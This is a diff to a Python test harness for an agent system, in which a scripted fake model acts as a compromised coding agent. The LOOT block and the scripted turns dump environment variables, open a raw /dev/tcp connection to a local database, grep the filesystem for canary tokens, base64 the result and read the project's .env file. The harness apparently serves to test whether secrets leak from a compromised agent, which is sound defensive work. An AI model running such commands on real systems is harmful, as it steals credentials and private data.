@@ -21,9 +21,10 @@ from langchain_core.messages import messages_to_dict
 from phoenix.bootstrap import open_system
 from phoenix.domain.run import FINISHED
 from phoenix.engine.launch import Launch
+from phoenix.errors import WorkspaceBusy
 from phoenix.flow import leaf
 from phoenix.llm.calls import ModelAnswer, ModelRequest
-from phoenix.llm.scripted import Line, Say, ScriptedModel
+from phoenix.llm.scripted import Fault, Line, Say, ScriptedModel
 from phoenix.settings import Settings, load_settings
 from phoenix.storage.event_batch import EventBatches
 from phoenix.telemetry.logs import configure_logs
@@ -43,7 +44,7 @@ LOOT = r"""
   python3 -c 'import os; print(dict(os.environ))'
   python3 -c 'import socket; socket.create_connection(("127.0.0.1", 5432), 2)'
   (echo "select * from webhooks"; sleep 1) | timeout 3 sh -c 'exec 3<>/dev/tcp/127.0.0.1/5432; cat >&3'
-  ls -la /tmp /run/postgresql; timeout 20 grep -rah cnry- /tmp /root /home /run /var/lib /etc /opt
+  ls -la /tmp /run/postgresql; timeout 4 grep -rah cnry- /tmp /root /home /run /var/lib /etc /opt
 ) > loot.txt 2>&1
 base64 loot.txt > loot.b64
 grep -aoh 'cnry-[^[:space:]]*' loot.txt | sort -u | head -5 | while read -r name; do
@@ -64,12 +65,17 @@ def attack() -> Line:
 def line_of(request: ModelRequest) -> Line:
     """Return what the model says: a script without memory, so that it survives its process."""
     agent, task = request.caller.agent, request.caller.task
+    if agent not in (lines := script()) and agent != "code":
+        # Lessons are left out where nobody draws them.
+        return Fault("unavailable")
     if agent != "code":
-        return script()[agent][0]
+        return lines[agent][0]
     seen = "\n".join(str(m.content) for m in request.messages if m.type == "tool")[-4000:]
     path = str(Path.cwd() / ".env")
     told = Say(calls=[("submit", {"summary": f"I was told to say this: {seen}", "tests": []})])
-    turns: list[Line] = [ADD if "T1" in task else MUL, attack()]
+    if "T1" not in task:
+        return MUL if request.turn == 0 else submit()
+    turns: list[Line] = [ADD, attack()]
     turns += [
         Say(calls=[("read_file", {"path": "loot.txt"})]),
         Say(calls=[("read_file", {"path": path})]),
@@ -104,7 +110,10 @@ def crash_once_in_each_step(settings: Settings) -> None:
         if (where := (place.thread_id, place.path)) not in crashed:
             crashed.add(where)
             structlog.get_logger("canary").warning("about_to_crash", environment=dict(os.environ))
-            raise RuntimeError(f"{place.step} crashed with {' '.join(known)}")
+            said = f"{place.step} crashed with {' '.join(known)}"
+            # A task that fails is left out of its project; one that finds no place is begun again.
+            is_task = "task" in structlog.contextvars.get_contextvars()
+            raise WorkspaceBusy(said) if is_task else RuntimeError(said)
         return await try_(self, state, runtime, place, began)
 
     leaf._Attempts._try = crashing  # type: ignore[method-assign]
@@ -143,7 +152,9 @@ async def main(prompts: Path, project: str, crash: str) -> None:
             print("project", project, flush=True)
         last = None
         while True:
-            run = (await system.engine.overview(UUID(project))).run
+            overview = await system.engine.overview(UUID(project))
+            run = overview.run
+            assert not overview.approvals, [a.request for a in overview.approvals]
             if run.status == "success":
                 break
             if run.status in FINISHED and (run.id, run.attempt) != last:
